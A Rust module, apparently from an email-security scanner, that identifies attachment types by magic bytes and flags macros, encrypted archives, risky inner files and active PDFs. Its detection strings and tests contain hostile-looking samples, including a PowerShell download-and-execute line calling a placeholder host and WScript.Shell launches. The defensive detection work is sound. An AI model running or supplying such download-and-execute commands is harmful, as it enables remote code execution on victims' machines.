//! File type from the bytes (magic numbers and a few structural looks), never from the name: criminals
//! rename `invoice.exe` to `invoice.pdf`, and the name is exactly what they control.
//!
//! A small hand-written table instead of a dependency: we only need the formats that matter for mail
//! (executables, scripts, disk images, archives, Office, HTML, images), and every probe reads a bounded prefix
//! or does one bounded `memmem` pass.

use memchr::memmem;
use std::sync::LazyLock;

/// What the bytes are.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Detected {
    /// Short stable type name, e.g. "pe", "zip", "docm", "html", "png". None when unknown binary.
    pub kind: Option<&'static str>,
    /// Office document carrying a VBA project.
    pub macros: bool,
    /// ZIP with at least one encrypted entry (password-protected).
    pub encrypted: bool,
    /// Names inside an archive that are executables, scripts, shortcuts, disk images or HTML (bounded).
    pub risky_inner: Vec<String>,
    /// PDF with /JavaScript or /Launch actions.
    pub pdf_active: bool,
}

impl Detected {
    fn kind(kind: &'static str) -> Self {
        Detected { kind: Some(kind), ..Default::default() }
    }
}

/// Most archive entries looked at.
const MAX_ZIP_ENTRIES: usize = 4096;
/// Most risky inner names kept.
const MAX_RISKY_INNER: usize = 8;
/// Bytes of a text file looked at for sniffing.
const TEXT_SNIFF: usize = 4096;

fn at(b: &[u8], off: usize, sig: &[u8]) -> bool {
    b.get(off..).is_some_and(|s| s.starts_with(sig))
}

fn u16le(b: &[u8], off: usize) -> Option<u16> {
    Some(u16::from_le_bytes(b.get(off..off + 2)?.try_into().ok()?))
}

fn u32le(b: &[u8], off: usize) -> Option<u32> {
    Some(u32::from_le_bytes(b.get(off..off + 4)?.try_into().ok()?))
}

fn u32be(b: &[u8], off: usize) -> Option<u32> {
    Some(u32::from_be_bytes(b.get(off..off + 4)?.try_into().ok()?))
}

/// Find the type of `b`. Never panics; cost is bounded by one pass over `b` at most.
pub fn detect(b: &[u8]) -> Detected {
    if b.len() < 2 {
        return Detected::default();
    }
    // Executables.
    if at(b, 0, b"MZ") && is_pe(b) {
        return Detected::kind("pe");
    }
    if at(b, 0, b"\x7fELF") {
        return Detected::kind("elf");
    }
    if at(b, 0, &[0xFE, 0xED, 0xFA, 0xCE])
        || at(b, 0, &[0xFE, 0xED, 0xFA, 0xCF])
        || at(b, 0, &[0xCE, 0xFA, 0xED, 0xFE])
        || at(b, 0, &[0xCF, 0xFA, 0xED, 0xFE])
    {
        return Detected::kind("macho");
    }
    if at(b, 0, &[0xCA, 0xFE, 0xBA, 0xBE]) {
        // Shared by fat Mach-O (a small architecture count follows) and Java classes (a version >= 45).
        return Detected::kind(if u32be(b, 4).is_some_and(|n| n < 30) { "macho" } else { "java_class" });
    }
    if at(b, 0, &[0x4C, 0x00, 0x00, 0x00, 0x01, 0x14, 0x02, 0x00]) {
        return Detected::kind("lnk");
    }
    if at(b, 0, &[0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D, 0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3]) {
        return Detected::kind("onenote");
    }
    if at(b, 0, b"ITSF") {
        return Detected::kind("chm");
    }
    // Containers.
    if at(b, 0, b"PK\x03\x04") {
        return zip(b);
    }
    if at(b, 0, b"PK\x05\x06") || at(b, 0, b"PK\x07\x08") {
        return Detected::kind("zip");
    }
    if at(b, 0, &[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]) {
        return ole(b);
    }
    if let Some(d) = pdf(b) {
        return d;
    }
    if at(b, 0, b"Rar!\x1a\x07") {
        return Detected::kind("rar");
    }
    if at(b, 0, &[0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C]) {
        return Detected::kind("7z");
    }
    if at(b, 0, &[0x1F, 0x8B, 0x08]) {
        return Detected::kind("gzip");
    }
    if at(b, 0, b"BZh") && b.get(3).is_some_and(|c| (b'1'..=b'9').contains(c)) {
        return Detected::kind("bzip2");
    }
    if at(b, 0, &[0xFD, 0x37, 0x7A, 0x58, 0x5A, 0x00]) {
        return Detected::kind("xz");
    }
    if at(b, 0, b"MSCF\0\0\0\0") {
        return Detected::kind("cab");
    }
    if at(b, 7, b"**ACE**") {
        return Detected::kind("ace");
    }
    if at(b, 0, &[0x60, 0xEA]) && b.len() > 10 {
        return Detected::kind("arj");
    }
    if at(b, 257, b"ustar") {
        return Detected::kind("tar");
    }
    // Disk images.
    if at(b, 0, b"vhdxfile") {
        return Detected::kind("vhdx");
    }
    if at(b, 0, b"conectix") || (b.len() >= 512 && at(b, b.len() - 512, b"conectix")) {
        return Detected::kind("vhd");
    }
    if let Some(d) = optical_image(b) {
        return d;
    }
    if is_disk_boot_sector(b) {
        return Detected::kind("img");
    }
    // Images.
    if at(b, 0, &[0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A]) {
        return Detected::kind("png");
    }
    if at(b, 0, &[0xFF, 0xD8, 0xFF]) {
        return Detected::kind("jpeg");
    }
    if at(b, 0, b"GIF87a") || at(b, 0, b"GIF89a") {
        return Detected::kind("gif");
    }
    if at(b, 0, b"RIFF") && at(b, 8, b"WEBP") {
        return Detected::kind("webp");
    }
    if at(b, 0, b"BM") && u32le(b, 14).is_some_and(|n| matches!(n, 12 | 40 | 52 | 56 | 64 | 108 | 124)) {
        return Detected::kind("bmp");
    }
    if at(b, 0, b"II*\0") || at(b, 0, b"MM\0*") {
        return Detected::kind("tiff");
    }
    if at(b, 0, b"{\\rtf") {
        return Detected::kind("rtf");
    }
    if is_signed_profile(b) {
        return Detected::kind("mobileconfig");
    }
    if at(b, 0, b"MZ") && b.len() >= 64 {
        // A DOS header whose PE header is cut off or misplaced is still an executable to Windows' loader.
        return Detected::kind("pe");
    }
    text(b)
}

/// CMS signedData OID 1.2.840.113549.1.7.2, as DER.
const CMS_SIGNED_DATA: &[u8] = &[0x06, 0x09, 0x2A, 0x86, 0x48, 0x86, 0xF7, 0x0D, 0x01, 0x07, 0x02];

/// A signed Apple configuration profile: a CMS envelope (DER SEQUENCE with the signedData OID near the start)
/// around a property list with `PayloadType` keys.
fn is_signed_profile(b: &[u8]) -> bool {
    at(b, 0, &[0x30])
        && memmem::find(&b[..b.len().min(32)], CMS_SIGNED_DATA).is_some()
        && memmem::find(b, b"<key>PayloadType</key>").is_some()
}

/// "MZ" with a PE signature where e_lfanew points.
fn is_pe(b: &[u8]) -> bool {
    let Some(off) = u32le(b, 0x3C) else { return false };
    at(b, off as usize, b"PE\0\0")
}

/// ISO 9660 ("CD001") or UDF ("BEA01"/"NSR02"/"NSR03") volume descriptors, which start at 32 KiB.
fn optical_image(b: &[u8]) -> Option<Detected> {
    let mut udf = false;
    for k in 0..8 {
        let off = 0x8001 + k * 0x800;
        if b.len() < off + 5 {
            break;
        }
        if at(b, off, b"CD001") {
            return Some(Detected::kind("iso"));
        }
        if at(b, off, b"BEA01") || at(b, off, b"NSR02") || at(b, off, b"NSR03") {
            udf = true;
        }
    }
    udf.then(|| Detected::kind("udf"))
}

/// A FAT/NTFS/exFAT boot sector: what a raw .img floppy or disk image starts with.
fn is_disk_boot_sector(b: &[u8]) -> bool {
    if !(at(b, 510, &[0x55, 0xAA]) && b.len() >= 4096) {
        return false;
    }
    at(b, 54, b"FAT1") || at(b, 82, b"FAT32") || at(b, 3, b"NTFS    ") || at(b, 3, b"EXFAT   ")
}

fn pdf(b: &[u8]) -> Option<Detected> {
    // Readers accept the header anywhere in the first KiB; some senders prepend junk to dodge filters.
    let head = &b[..b.len().min(1024)];
    memmem::find(head, b"%PDF-")?;
    let pdf_active = memmem::find(b, b"/JavaScript").is_some() || memmem::find(b, b"/Launch").is_some();
    Some(Detected { kind: Some("pdf"), pdf_active, ..Default::default() })
}

/// The lower-cased extension of a file name (after the last dot), if any.
pub fn extension(name: &str) -> Option<String> {
    let base = name.rsplit(['/', '\\']).next().unwrap_or(name);
    // Windows drops trailing dots and spaces, so "x.exe. " runs as x.exe.
    let base = base.trim_end_matches(['.', ' ', '\t']);
    let (_, ext) = base.rsplit_once('.')?;
    let ext = ext.trim().to_ascii_lowercase();
    (!ext.is_empty() && ext.len() <= 16).then_some(ext)
}

/// Extensions whose files run code when opened, or whose contents phishers use instead of a link.
pub fn dangerous_extension(ext: &str) -> bool {
    super::ext_risk(ext).is_some_and(|r| r != "archive")
}

/// ZIP: walk the local file headers. OOXML is recognised by its part names; a VBA project means macros;
/// bit 0 of the general-purpose flags means the entry is encrypted.
fn zip(b: &[u8]) -> Detected {
    let mut d = Detected::kind("zip");
    let (mut content_types, mut word, mut xl, mut ppt, mut vba, mut manifest, mut android) =
        (false, false, false, false, false, false, false);
    for pos in memmem::find_iter(b, b"PK\x03\x04").take(MAX_ZIP_ENTRIES) {
        let (Some(flags), Some(name_len)) = (u16le(b, pos + 6), u16le(b, pos + 26)) else { break };
        let start = pos + 30;
        let Some(name) = b.get(start..start + name_len as usize) else { continue };
        if flags & 1 == 1 {
            d.encrypted = true;
        }
        let name = String::from_utf8_lossy(name);
        let lower = name.to_ascii_lowercase();
        content_types |= lower == "[content_types].xml";
        word |= lower.starts_with("word/");
        xl |= lower.starts_with("xl/");
        ppt |= lower.starts_with("ppt/");
        vba |= lower.ends_with("vbaproject.bin");
        manifest |= lower == "meta-inf/manifest.mf";
        android |= lower == "androidmanifest.xml";
        if d.risky_inner.len() < MAX_RISKY_INNER
            && extension(&lower).is_some_and(|e| dangerous_extension(&e))
            && !lower.ends_with('/')
        {
            d.risky_inner.push(crate::finding::bounded(&name, 120));
        }
    }
    d.macros = vba;
    d.kind = Some(match (content_types || word || xl || ppt, word, xl, ppt) {
        (true, true, _, _) => {
            if vba {
                "docm"
            } else {
                "docx"
            }
        }
        (true, _, true, _) => {
            if vba {
                "xlsm"
            } else {
                "xlsx"
            }
        }
        (true, _, _, true) => {
            if vba {
                "pptm"
            } else {
                "pptx"
            }
        }
        _ if android => "apk",
        _ if manifest => "jar",
        _ => "zip",
    });
    if d.kind != Some("zip") {
        // Files inside an Office document or a Java archive are its own parts, not a payload.
        d.risky_inner.clear();
    }
    d
}

/// UTF-16LE byte pattern for an ASCII name, as OLE directory entries store stream names.
fn utf16le(s: &str) -> Vec<u8> {
    s.bytes().flat_map(|c| [c, 0]).collect()
}

struct OleNames {
    word: memmem::Finder<'static>,
    excel: memmem::Finder<'static>,
    powerpoint: memmem::Finder<'static>,
    outlook: memmem::Finder<'static>,
    vba: memmem::Finder<'static>,
    macros: memmem::Finder<'static>,
}

static OLE_NAMES: LazyLock<OleNames> = LazyLock::new(|| {
    let f = |s: &str| memmem::Finder::new(&utf16le(s)).into_owned();
    OleNames {
        word: f("WordDocument"),
        excel: f("Workbook"),
        powerpoint: f("PowerPoint Document"),
        outlook: f("__substg1.0_"),
        vba: f("_VBA_PROJECT"),
        macros: f("Macros"),
    }
});

/// The root-entry CLSID of Windows Installer packages, {000C1084-0000-0000-C000-000000000046}.
const MSI_CLSID: [u8; 16] = [0x84, 0x10, 0x0C, 0x00, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46];

/// OLE2 compound file: legacy Office, MSI, Outlook .msg. Stream names are searched as UTF-16LE anywhere in the
/// file (the directory can sit in any sector), which is one bounded pass per name.
fn ole(b: &[u8]) -> Detected {
    let n = &*OLE_NAMES;
    let macros = n.vba.find(b).is_some() || n.macros.find(b).is_some();
    let kind = if memmem::find(b, &MSI_CLSID).is_some() {
        "msi"
    } else if n.word.find(b).is_some() {
        "doc"
    } else if n.excel.find(b).is_some() {
        "xls"
    } else if n.powerpoint.find(b).is_some() {
        "ppt"
    } else if n.outlook.find(b).is_some() {
        "msg"
    } else {
        "ole"
    };
    Detected { kind: Some(kind), macros, ..Default::default() }
}

/// A lower-cased ASCII view of the start of a text file (UTF-8, or UTF-16LE with a BOM), or None when the
/// bytes look binary.
fn text_sample(b: &[u8]) -> Option<String> {
    let mut s: Vec<u8> = if at(b, 0, &[0xFF, 0xFE]) {
        b.get(2..)
            .unwrap_or_default()
            .chunks_exact(2)
            .take(TEXT_SNIFF)
            .map(|c| if c[1] == 0 { c[0] } else { b'?' })
            .collect()
    } else {
        let b = b.strip_prefix(&[0xEF, 0xBB, 0xBF]).unwrap_or(b);
        b[..b.len().min(TEXT_SNIFF)].to_vec()
    };
    if s.contains(&0) {
        return None;
    }
    // Mostly control bytes other than white space: binary.
    let controls = s.iter().filter(|&&c| c < 0x20 && !matches!(c, b'\t' | b'\n' | b'\r' | 0x0C | 0x1B)).count();
    if controls * 20 > s.len().max(1) {
        return None;
    }
    s.make_ascii_lowercase();
    let text = String::from_utf8_lossy(&s);
    Some(text.trim_start().to_string())
}

const HTML_MARKERS: &[&str] =
    &["<html", "<!doctype html", "<script", "<form", "<head", "<body", "<iframe", "<meta http-equiv"];

const EML_HEADERS: &[&str] = &[
    "received:",
    "return-path:",
    "from:",
    "delivered-to:",
    "message-id:",
    "mime-version:",
    "date:",
    "subject:",
    "to:",
    "dkim-signature:",
    "x-",
    "arc-",
    "authentication-results:",
];

/// Text formats: HTML, SVG, scripts, calendars, saved messages.
fn text(b: &[u8]) -> Detected {
    let Some(t) = text_sample(b) else { return Detected::default() };
    let first_kib = {
        let mut end = t.len().min(1024);
        while !t.is_char_boundary(end) {
            end -= 1;
        }
        &t[..end]
    };
    let has = |s: &str| t.contains(s);
    if (t.starts_with("<?xml") || t.starts_with("<svg") || t.starts_with("<!doctype svg")) && has("<svg") {
        return Detected::kind("svg");
    }
    if has("<hta:application") {
        return Detected::kind("hta");
    }
    if (t.starts_with("<job") || t.starts_with("<package") || t.starts_with("<?xml")) && has("<job") && has("<script") {
        return Detected::kind("wsf");
    }
    if HTML_MARKERS.iter().any(|m| first_kib.contains(m)) {
        return Detected::kind("html");
    }
    if t.starts_with("begin:vcalendar") {
        return Detected::kind("ics");
    }
    if has("<plist") && has("<key>payloadtype</key>") {
        return Detected::kind("mobileconfig");
    }
    if t.starts_with("<?xml") {
        return Detected::kind("xml");
    }
    // Windows Script Host code: what .js/.vbs droppers call to reach the system.
    let wsh = has("wscript.") || has("activexobject") || has("createobject(");
    if wsh {
        let vb = has("dim ") || has("end sub") || has("on error resume next") || has("end function") || has("set ");
        let js = has("var ") || has("function") || has(";");
        if vb && !has("var ") {
            return Detected::kind("vbscript");
        }
        if js {
            return Detected::kind("javascript");
        }
        return Detected::kind("vbscript");
    }
    if has("invoke-expression") || has("downloadstring(") || has("frombase64string(") || has("new-object net.webclient")
    {
        return Detected::kind("powershell");
    }
    if t.starts_with("@echo off") {
        return Detected::kind("batch");
    }
    if looks_like_message(&t) {
        return Detected::kind("eml");
    }
    Detected::kind("text")
}

/// A saved message: starts with a known header line and has at least two more of the common ones.
fn looks_like_message(t: &str) -> bool {
    if !EML_HEADERS.iter().any(|h| t.starts_with(h)) {
        return false;
    }
    let common = ["\nfrom:", "\nsubject:", "\nto:", "\ndate:", "\nmessage-id:", "\nreceived:", "\nmime-version:"];
    common.iter().filter(|h| t.contains(*h)).count() >= 2
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kind(b: &[u8]) -> Option<&'static str> {
        detect(b).kind
    }

    fn pe() -> Vec<u8> {
        let mut b = vec![0u8; 256];
        b[..2].copy_from_slice(b"MZ");
        b[0x3C] = 0x80;
        b[0x80..0x84].copy_from_slice(b"PE\0\0");
        b
    }

    /// A minimal ZIP made of local headers only (what `zip` reads).
    pub(crate) fn zip_with(names: &[(&str, bool)]) -> Vec<u8> {
        let mut b = Vec::new();
        for (name, encrypted) in names {
            b.extend_from_slice(b"PK\x03\x04");
            b.extend_from_slice(&20u16.to_le_bytes());
            b.extend_from_slice(&(if *encrypted { 1u16 } else { 0 }).to_le_bytes());
            b.extend_from_slice(&[0u8; 18]);
            b.extend_from_slice(&(name.len() as u16).to_le_bytes());
            b.extend_from_slice(&0u16.to_le_bytes());
            b.extend_from_slice(name.as_bytes());
        }
        b.extend_from_slice(b"PK\x05\x06");
        b.extend_from_slice(&[0u8; 18]);
        b
    }

    fn ole_with(names: &[&str], extra: &[u8]) -> Vec<u8> {
        let mut b = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
        b.resize(512, 0);
        for n in names {
            b.extend_from_slice(&utf16le(n));
            b.extend_from_slice(&[0u8; 16]);
        }
        b.extend_from_slice(extra);
        b
    }

    #[test]
    fn executables() {
        assert_eq!(kind(&pe()), Some("pe"));
        assert_eq!(kind(b"\x7fELF\x02\x01\x01\0\0\0\0\0"), Some("elf"));
        assert_eq!(kind(&[0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1]), Some("macho"));
        assert_eq!(kind(&[0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2]), Some("macho"));
        assert_eq!(kind(&[0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52]), Some("java_class"));
        assert_eq!(kind(&[0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xC0]), Some("lnk"));
        assert_eq!(kind(b"ITSF\x03\0\0\0"), Some("chm"));
    }

    #[test]
    fn zips_and_office() {
        assert_eq!(kind(&zip_with(&[("a.txt", false)])), Some("zip"));
        let docx = zip_with(&[("[Content_Types].xml", false), ("word/document.xml", false)]);
        assert_eq!(kind(&docx), Some("docx"));
        let docm = zip_with(&[("[Content_Types].xml", false), ("word/vbaProject.bin", false)]);
        let d = detect(&docm);
        assert_eq!((d.kind, d.macros), (Some("docm"), true));
        let xlsm =
            zip_with(&[("[Content_Types].xml", false), ("xl/workbook.xml", false), ("xl/vbaProject.bin", false)]);
        assert_eq!(kind(&xlsm), Some("xlsm"));
        assert_eq!(kind(&zip_with(&[("[Content_Types].xml", false), ("xl/workbook.xml", false)])), Some("xlsx"));
        assert_eq!(kind(&zip_with(&[("[Content_Types].xml", false), ("ppt/presentation.xml", false)])), Some("pptx"));
        assert_eq!(kind(&zip_with(&[("META-INF/MANIFEST.MF", false), ("a/B.class", false)])), Some("jar"));
        let enc = detect(&zip_with(&[("Invoice_2024.pdf.exe", true)]));
        assert!(enc.encrypted);
        assert_eq!(enc.risky_inner, vec!["Invoice_2024.pdf.exe".to_string()]);
        assert!(!detect(&zip_with(&[("readme.txt", false)])).encrypted);
    }

    #[test]
    fn ole_documents() {
        let d = detect(&ole_with(&["Root Entry", "WordDocument", "Macros", "_VBA_PROJECT"], &[]));
        assert_eq!((d.kind, d.macros), (Some("doc"), true));
        let d = detect(&ole_with(&["Root Entry", "Workbook"], &[]));
        assert_eq!((d.kind, d.macros), (Some("xls"), false));
        assert_eq!(kind(&ole_with(&["Root Entry"], &MSI_CLSID)), Some("msi"));
        assert_eq!(kind(&ole_with(&["__substg1.0_0037001F"], &[])), Some("msg"));
    }

    #[test]
    fn archives() {
        assert_eq!(kind(b"Rar!\x1a\x07\x01\x00rest"), Some("rar"));
        assert_eq!(kind(&[0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0, 4]), Some("7z"));
        assert_eq!(kind(&[0x1F, 0x8B, 0x08, 0, 0, 0]), Some("gzip"));
        assert_eq!(kind(b"BZh91AY&SY"), Some("bzip2"));
        assert_eq!(kind(&[0xFD, 0x37, 0x7A, 0x58, 0x5A, 0x00, 0, 4]), Some("xz"));
        assert_eq!(kind(b"MSCF\0\0\0\0\x10\0\0\0"), Some("cab"));
        assert_eq!(kind(b"\0\0\0\0\0\0\0**ACE**\0\0"), Some("ace"));
    }

    #[test]
    fn disk_images() {
        let mut iso = vec![0u8; 0x8800];
        iso[0x8001..0x8006].copy_from_slice(b"CD001");
        assert_eq!(kind(&iso), Some("iso"));
        let mut udf = vec![0u8; 0x9000];
        udf[0x8001..0x8006].copy_from_slice(b"BEA01");
        udf[0x8801..0x8806].copy_from_slice(b"NSR02");
        assert_eq!(kind(&udf), Some("udf"));
        let mut vhd = vec![0u8; 2048];
        let n = vhd.len();
        vhd[n - 512..n - 504].copy_from_slice(b"conectix");
        assert_eq!(kind(&vhd), Some("vhd"));
        assert_eq!(kind(b"vhdxfile\0\0\0\0"), Some("vhdx"));
        let mut img = vec![0u8; 8192];
        img[..3].copy_from_slice(&[0xEB, 0x3C, 0x90]);
        img[54..59].copy_from_slice(b"FAT12");
        img[510..512].copy_from_slice(&[0x55, 0xAA]);
        assert_eq!(kind(&img), Some("img"));
    }

    #[test]
    fn documents_and_images() {
        let d = detect(b"junk\n%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>");
        assert_eq!((d.kind, d.pdf_active), (Some("pdf"), true));
        assert!(!detect(b"%PDF-1.4\n1 0 obj << /Type /Catalog >>").pdf_active);
        assert_eq!(kind(b"{\\rtf1\\ansi hello}"), Some("rtf"));
        assert_eq!(kind(&[0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0]), Some("png"));
        assert_eq!(kind(&[0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10]), Some("jpeg"));
        assert_eq!(kind(b"GIF89a\x01\0\x01\0"), Some("gif"));
        assert_eq!(kind(b"RIFF\x10\0\0\0WEBPVP8 "), Some("webp"));
        let mut bmp = b"BM".to_vec();
        bmp.extend_from_slice(&[0u8; 12]);
        bmp.extend_from_slice(&40u32.to_le_bytes());
        assert_eq!(kind(&bmp), Some("bmp"));
        let one = [0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D, 0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3, 0];
        assert_eq!(kind(&one), Some("onenote"));
    }

    #[test]
    fn text_formats() {
        assert_eq!(kind(b"\xEF\xBB\xBF  \r\n<!DOCTYPE HTML><html><body>x</body></html>"), Some("html"));
        assert_eq!(kind(b"<SCRIPT>window.location='https://x.example/'</SCRIPT>"), Some("html"));
        assert_eq!(kind(b"\n\n<Form action=https://x.example/p method=post>"), Some("html"));
        // UTF-16LE with a BOM.
        let utf16: Vec<u8> = [0xFF, 0xFE].into_iter().chain(utf16le("<html><body>hi")).collect();
        assert_eq!(kind(&utf16), Some("html"));
        assert_eq!(
            kind(b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>x</script></svg>"),
            Some("svg")
        );
        assert_eq!(kind(b"<html><head><HTA:APPLICATION ID=x></head>"), Some("hta"));
        assert_eq!(kind(b"var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"cmd\");"), Some("javascript"));
        assert_eq!(kind(b"Dim o\r\nSet o = CreateObject(\"WScript.Shell\")\r\no.Run \"calc\""), Some("vbscript"));
        assert_eq!(kind(b"<job id=\"a\"><script language=\"JScript\">x</script></job>"), Some("wsf"));
        assert_eq!(kind(b"$c = New-Object Net.WebClient; IEX $c.DownloadString('http://x')"), Some("powershell"));
        assert_eq!(kind(b"@echo off\r\nstart calc.exe"), Some("batch"));
        let profile = b"<?xml version=\"1.0\"?><!DOCTYPE plist><plist version=\"1.0\"><dict><key>PayloadType</key>\
            <string>com.apple.mail.managed</string></dict></plist>";
        assert_eq!(kind(profile), Some("mobileconfig"));
        let mut signed = vec![0x30, 0x82, 0x14, 0x5A];
        signed.extend_from_slice(CMS_SIGNED_DATA);
        signed.extend_from_slice(&[0xA0, 0x82, 0, 0]);
        signed.extend_from_slice(profile);
        assert_eq!(kind(&signed), Some("mobileconfig"));
        assert_eq!(kind(b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR"), Some("ics"));
        assert_eq!(
            kind(b"Received: from x\r\nFrom: a@b.example\r\nSubject: hi\r\nTo: c@d.example\r\n\r\nbody"),
            Some("eml")
        );
        assert_eq!(kind(b"Dear customer, please find the invoice."), Some("text"));
        assert_eq!(kind(&[0x00, 0x01, 0x02, 0x03, 0x04]), None);
    }

    #[test]
    fn extensions() {
        assert_eq!(extension("Invoice.PDF").as_deref(), Some("pdf"));
        assert_eq!(extension("dir/a.tar.gz").as_deref(), Some("gz"));
        assert_eq!(extension("noext"), None);
        assert_eq!(extension("trailing.exe. ").as_deref(), Some("exe"));
    }
}
